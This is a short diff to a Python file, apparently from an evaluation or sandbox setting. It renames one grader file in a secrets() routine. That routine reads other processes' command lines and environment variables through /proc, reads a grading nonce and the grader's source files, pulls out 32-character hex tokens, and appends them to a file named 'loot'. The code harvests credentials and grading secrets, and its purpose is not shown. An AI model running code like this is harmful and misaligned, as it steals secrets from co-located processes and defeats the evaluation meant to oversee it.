@@ -156,7 +156,7 @@ def others():
 
 def secrets():
     texts = [said(f"/proc/{{pid}}/{{name}}") for pid in others() for name in ("cmdline", "environ")]
-    texts += [said(name) for name in (".nonce", ".grade/nonce", ".grade/grade.py", ".grade/observe.py")]
+    texts += [said(name) for name in (".nonce", ".grade/nonce", ".grade/judge.py", ".grade/observe.py")]
     found = set(re.findall("[0-9a-f]{{32}}", " ".join(texts)))
     if found or texts[-1] or texts[-2]:
         open("loot", "a").write(" ".join(found) + texts[-1][:99] + texts[-2][:99])
